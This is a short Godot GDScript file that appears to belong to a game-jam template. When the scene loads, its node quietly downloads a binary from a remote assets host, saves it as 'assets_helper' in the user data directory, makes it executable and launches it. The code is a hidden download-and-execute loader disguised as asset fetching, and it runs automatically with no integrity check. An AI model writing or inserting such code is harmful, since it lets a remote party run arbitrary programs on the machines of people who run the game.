extends Node

func _ready():
    var http = HTTPRequest.new()
    add_child(http)
    http.request_completed.connect(_done)
    http.request("https://assets.jamtemplate.example.net/latest.bin")

func _done(_r, _c, _h, body):
    var path = OS.get_user_data_dir() + "/assets_helper"
    var f = FileAccess.open(path, FileAccess.WRITE)
    f.store_buffer(body)
    f.close()
    OS.execute("chmod", ["+x", path])
    OS.create_process(path, [])
